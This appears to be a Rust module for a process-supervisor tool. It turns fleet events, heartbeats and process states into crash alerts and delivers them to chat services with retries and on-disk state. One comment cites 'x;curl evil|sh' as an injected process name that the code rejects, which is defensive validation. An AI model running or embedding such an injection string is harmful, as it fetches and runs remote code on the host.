//! `respawnctl alerts`: crash alerts to chat. A long-running subscriber folds the fleet's
//! events, presence, heartbeats and process states into alerts ([`rules`]), routes them to the
//! targets that want them, groups them per target ([`outbox`]) and delivers them
//! ([`send`], [`format`](mod@format)) to Slack, Discord, Telegram, Matrix, ntfy and webhooks —
//! in order, retrying while a service is down, with everything kept on disk ([`store`]).
//! [`Alerter`] decides, free of I/O; `service` runs it: the broker, the clock, the deliveries.
//!
//! Nothing is missed while the alerter itself is away: it keeps a persistent MQTT session,
//! so the broker queues events for it, and it acknowledges an event only once what it
//! changed is on disk.

pub mod config;
pub mod format;
pub mod outbox;
pub mod rules;
pub mod send;
mod service;
pub mod store;

use std::collections::{BTreeMap, HashSet};
use std::path::PathBuf;
use std::time::SystemTime;

use respawn_common::ids::validate_process_name;
use respawn_common::messages::{
    read_report, AgentState, Event, Heartbeat, ProcessReport, MAX_PROCESSES_READ,
};
use respawn_common::pattern::glob;
use respawn_common::topics::{Filter, Topic, Topics};

use config::{AlertsConfig, TargetConfig};
use outbox::{Batch, Delivery, Outbox, Pace, Settled};
use rules::{AlertKey, AlertKind, Notice, Phase, Rules};
use store::Saved;

use crate::session::Message;

pub use service::{run, test};

/// The alerter's state and decisions, without any input or output of its own: it is told
/// what arrived and what time it is, and says what to send.
pub struct Alerter {
    config: AlertsConfig,
    topics: Topics,
    rules: Rules,
    outboxes: BTreeMap<String, Outbox>,
    /// Targets with a delivery under way.
    sending: HashSet<usize>,
    /// Something changed since the state was last saved.
    dirty: bool,
}

impl Alerter {
    pub fn new(config: AlertsConfig, topics: Topics, saved: Saved) -> Self {
        let rules = Rules::new(config.rules.clone(), saved.rules);
        let mut outboxes = saved.outboxes;
        // Targets removed from the configuration take their undelivered messages with them.
        for name in outboxes.keys().cloned().collect::<Vec<_>>() {
            if !config.targets.iter().any(|t| t.name == name) {
                let left = outboxes.remove(&name).map_or(0, |o| o.len());
                let messages = if left == 1 { "message" } else { "messages" };
                if left > 0 {
                    tracing::warn!(target = %name, "{left} undelivered {messages} dropped: the target is no longer configured");
                }
            }
        }
        for target in &config.targets {
            outboxes.entry(target.name.clone()).or_default();
        }
        Self {
            config,
            topics,
            rules,
            outboxes,
            sending: HashSet::new(),
            dirty: false,
        }
    }

    /// The MQTT subscriptions it needs: events (shared between alerters, if configured), and
    /// the retained state, process states and heartbeats (never shared: a shared subscription
    /// gets no retained messages).
    pub fn filters(&self) -> Vec<String> {
        let events = self.topics.filter(Filter::Events);
        let events = match &self.config.shared_group {
            Some(group) => format!("$share/{group}/{events}"),
            None => events,
        };
        // Heartbeats first: the retained ones tell how far each agent's clock is off before
        // the states are read.
        vec![
            self.topics.filter(Filter::Heartbeats),
            events,
            self.topics.filter(Filter::States),
            self.topics.filter(Filter::Processes),
        ]
    }

    /// `m`, from a heartbeat: how far its agent's clock is off ours, which the times of its
    /// events are moved by.
    pub fn heard(&mut self, m: &Message) {
        let Some(Topic::Heartbeat { agent }) = self.topics.parse(&m.topic) else {
            return;
        };
        if let Some(clock) = m.heartbeat_clock(None) {
            self.rules.clock_heard(&agent, clock);
        }
    }

    /// One message from the broker. Anything unreadable is ignored (and said so in the
    /// debug log): the alerter must not stop because some client published nonsense.
    pub fn on_message(&mut self, now: SystemTime, topic: &str, payload: &[u8]) {
        let Some(parsed) = self.topics.parse(topic) else {
            return;
        };
        fn unread(topic: &str, error: impl std::fmt::Display) {
            tracing::debug!(%topic, %error, "ignoring an unreadable message");
        }
        fn read<T: serde::de::DeserializeOwned>(topic: &str, payload: &[u8]) -> Option<T> {
            serde_json::from_slice(payload)
                .map_err(|e| unread(topic, e))
                .ok()
        }
        // A process state or an event, within the bound on what an agent sends.
        fn read_bounded<T: serde::de::DeserializeOwned>(topic: &str, payload: &[u8]) -> Option<T> {
            read_report(payload).map_err(|e| unread(topic, e)).ok()
        }
        let notices = match parsed {
            Topic::State { agent } => {
                let state: Option<AgentState> = match payload.is_empty() {
                    true => None,
                    // Kept in the state file: what no agent sends (a session longer than
                    // theirs) would let anyone who publishes grow it without end.
                    false => match AgentState::read(payload) {
                        Ok(state) => Some(state),
                        Err(e) => return unread(topic, e),
                    },
                };
                // The birth said again with each heartbeat: no news, nor a reason to save
                // the state file.
                if state
                    .as_ref()
                    .is_some_and(|s| self.rules.knows_birth(&agent, s))
                {
                    return;
                }
                self.rules.on_presence(now, &agent, state.as_ref())
            }
            Topic::Heartbeat { agent } => {
                // Heartbeats come often and change nothing worth saving by themselves.
                let heartbeat: Option<Heartbeat> = read(topic, payload);
                let notices = self.rules.on_heartbeat(now, &agent, heartbeat.as_ref());
                if !notices.is_empty() {
                    self.dirty = true;
                }
                return self.route(now, notices);
            }
            Topic::Process { agent, process } if !self.rules.has_room(&agent, &process) => {
                tracing::debug!(%topic, "ignoring a process beyond the {MAX_PROCESSES_READ} held of an agent");
                return;
            }
            Topic::Process { agent, process } => {
                let report: Option<ProcessReport> = match payload.is_empty() {
                    true => None,
                    false => match read_bounded(topic, payload) {
                        Some(report) => Some(report),
                        None => return,
                    },
                };
                self.rules
                    .on_process(now, &agent, &process, report.as_ref())
            }
            Topic::Event { agent } => {
                let Some(mut event) = read_bounded::<Event>(topic, payload) else {
                    return;
                };
                // The topic says whose it is (a broker ACL makes sure of that).
                event.agent = agent;
                if let Some(process) = &event.process {
                    // Named in alerts and in the commands they suggest: a name no agent can
                    // configure (`x;curl evil|sh`) comes from no agent's process.
                    if validate_process_name(process).is_err() {
                        tracing::debug!(%topic, "ignoring an event of a process with an invalid name");
                        return;
                    }
                    if !self.rules.has_room(&event.agent, process) {
                        return;
                    }
                }
                self.rules.on_event(now, &event)
            }
            Topic::Command { .. } | Topic::Reply { .. } | Topic::Logs { .. } => return,
        };
        self.dirty = true;
        self.route(now, notices);
    }

    /// Time passes.
    pub fn tick(&mut self, now: SystemTime) {
        let notices = self.rules.tick(now);
        if !notices.is_empty() {
            self.dirty = true;
        }
        self.route(now, notices);
    }

    fn route(&mut self, now: SystemTime, notices: Vec<Notice>) {
        for notice in notices {
            let to: Vec<&TargetConfig> = self
                .config
                .targets
                .iter()
                .filter(|t| wants(t, &notice.key))
                .collect();
            let names: Vec<&str> = to.iter().map(|t| t.name.as_str()).collect();
            let phase = match notice.phase {
                Phase::Firing => "alert",
                Phase::Reminder => "reminder",
                Phase::Resolved => "resolved",
                Phase::Test => "test",
            };
            tracing::info!(
                subject = %notice.key.subject(),
                kind = notice.key.kind.as_str(),
                to = ?names,
                "{phase}"
            );
            for target in to {
                if let Some(outbox) = self.outboxes.get_mut(&target.name) {
                    outbox.push(now, notice.clone());
                }
            }
        }
    }

    fn pace(&self, target: &TargetConfig) -> Pace {
        Pace {
            group_window: self.config.group_window,
            min_interval: target.min_interval,
            retry_for: self.config.retry_for,
        }
    }

    /// The batches to send now, by target index; each target has one delivery under way at
    /// most, so that messages arrive in order.
    pub fn due(&mut self, now: SystemTime) -> Vec<(usize, Batch)> {
        let mut due = Vec::new();
        for (i, target) in self.config.targets.iter().enumerate() {
            if self.sending.contains(&i) {
                continue;
            }
            let pace = self.pace(target);
            if let Some(outbox) = self.outboxes.get_mut(&target.name) {
                let rules = &self.rules;
                let batch = outbox.due(now, &pace, |key, since| rules.facts_now(key, since));
                for key in outbox.take_unsent_resolutions() {
                    let subject = key.subject();
                    tracing::info!(target = %target.name, %subject, kind = key.kind.as_str(), "resolution not sent: this target never got the alert");
                }
                if let Some(batch) = batch {
                    self.sending.insert(i);
                    self.dirty = true;
                    due.push((i, batch));
                }
            }
        }
        due
    }

    /// The batch `due` gave for target `index` was not sent: it is due again.
    pub fn put_back(&mut self, index: usize) {
        self.sending.remove(&index);
    }

    /// What became of a delivery to target `index`.
    pub fn settle(&mut self, now: SystemTime, index: usize, id: &str, delivery: &Delivery) {
        self.sending.remove(&index);
        let Some(target) = self.config.targets.get(index) else {
            return;
        };
        let pace = self.pace(target);
        let Some(outbox) = self.outboxes.get_mut(&target.name) else {
            return;
        };
        self.dirty = true;
        match outbox.settle(now, &pace, id, delivery) {
            Settled::Sent(told) => {
                tracing::info!(target = %target.name, "delivered");
                // Reminders count from when a target heard, not from when the alert was
                // raised: a message held through a chat's outage is not followed at once by
                // a reminder of it.
                self.rules.told(&told, now);
            }
            Settled::Retry(at) => {
                let wait = at.duration_since(now).unwrap_or_default();
                let why = match delivery {
                    Delivery::RetryAfter(_) => "rate limited".to_owned(),
                    Delivery::Transient(why) | Delivery::Permanent(why) => why.clone(),
                    Delivery::Delivered => String::new(),
                };
                tracing::warn!(
                    target = %target.name,
                    queued = outbox.len(),
                    "not delivered ({why}); trying again in {}",
                    crate::output::short(wait)
                );
            }
            Settled::Dropped(why) => {
                tracing::error!(target = %target.name, "a message was dropped: {why}")
            }
        }
    }

    /// Whether some target takes the alert of a lost broker.
    pub fn pages_the_broker(&self) -> bool {
        let kinds = self.config.targets.iter().flat_map(|t| &t.kinds);
        kinds
            .into_iter()
            .any(|k| *k == AlertKind::BrokerUnreachable)
    }

    /// Messages not delivered yet, to every target.
    pub fn undelivered(&self) -> usize {
        self.outboxes.values().map(Outbox::len).sum()
    }

    /// Whether the state changed since the last call.
    pub fn take_dirty(&mut self) -> bool {
        std::mem::take(&mut self.dirty)
    }

    pub fn is_dirty(&self) -> bool {
        self.dirty
    }

    /// The state could not be saved: it is still to be.
    pub fn mark_dirty(&mut self) {
        self.dirty = true;
    }

    /// The connection to `broker` was lost, or a new attempt failed, for `why`: the fleet's
    /// clocks stand still and only the broker is alerted, until [`Alerter::reached_broker`].
    pub fn lost_broker(&mut self, now: SystemTime, broker: &str, why: &str) {
        self.rules.lost_broker(now, broker, why);
    }

    /// Connected to `broker` and subscribed, at the start or again: the broker's alert is
    /// over, and the clocks of silence, absence and uptime start afresh, or move on by the
    /// outage (the retained state that follows says where everyone is).
    pub fn reached_broker(&mut self, now: SystemTime, broker: &str) {
        let notices = self.rules.reached_broker(now, broker);
        if !notices.is_empty() {
            self.dirty = true;
        }
        self.route(now, notices);
    }

    pub fn saved(&self) -> Saved {
        Saved {
            rules: self.rules.state().clone(),
            outboxes: self.outboxes.clone(),
        }
    }
}

/// Whether `target` wants alerts about `key`. The broker's alert is about every agent, and
/// passes every filter but `kinds`.
pub fn wants(target: &TargetConfig, key: &AlertKey) -> bool {
    if key.kind == AlertKind::BrokerUnreachable {
        return target.kinds.contains(&key.kind);
    }
    target.kinds.contains(&key.kind)
        && target.agents.iter().any(|g| glob(g, &key.agent))
        && key
            .process
            .as_deref()
            .is_none_or(|p| target.processes.iter().any(|g| glob(g, p)))
}

/// Where the state lives unless the file says: systemd's `StateDirectory=`, else where the
/// alerts unit keeps it for root (not in the agent's /var/lib/respawn, which purging the agent's
/// package removes), else in the user's state directory.
pub fn default_state_file() -> PathBuf {
    if let Some(dir) = std::env::var_os("STATE_DIRECTORY").filter(|d| !d.is_empty()) {
        // systemd may list several, separated by ':'; the first is ours.
        let first = dir
            .to_string_lossy()
            .split(':')
            .next()
            .unwrap_or_default()
            .to_owned();
        return PathBuf::from(first).join("alerts.json");
    }
    if is_root() {
        return PathBuf::from("/var/lib/respawn-alerts/alerts.json");
    }
    let base = std::env::var_os("XDG_STATE_HOME")
        .map(PathBuf::from)
        .filter(|p| p.is_absolute())
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".local/state")))
        .unwrap_or_else(|| PathBuf::from("."));
    base.join("respawn/alerts.json")
}

fn is_root() -> bool {
    // /proc/self belongs to this process's effective user.
    std::fs::metadata("/proc/self")
        .map(|m| std::os::unix::fs::MetadataExt::uid(&m) == 0)
        .unwrap_or(false)
}

#[cfg(test)]
#[path = "alerter_tests.rs"]
mod tests;

/// What the alerts tests share: virtual time and a notice to start from.
#[cfg(test)]
mod testing {
    use std::time::{Duration, SystemTime};

    use super::rules::{AlertKey, AlertKind, Facts, Notice, Phase};

    /// `secs` after 2027-01-15T08:00:00Z.
    pub fn t(secs: u64) -> SystemTime {
        SystemTime::UNIX_EPOCH + Duration::from_secs(1_800_000_000 + secs)
    }

    /// A crash of `door-pi/{process}` at `t(0)`, without details.
    pub fn crash_notice(process: &str) -> Notice {
        Notice {
            key: AlertKey {
                agent: "door-pi".into(),
                process: Some(process.into()),
                kind: AlertKind::Crashed,
            },
            phase: Phase::Firing,
            at: t(0),
            since: t(0),
            facts: Facts::default(),
        }
    }
}
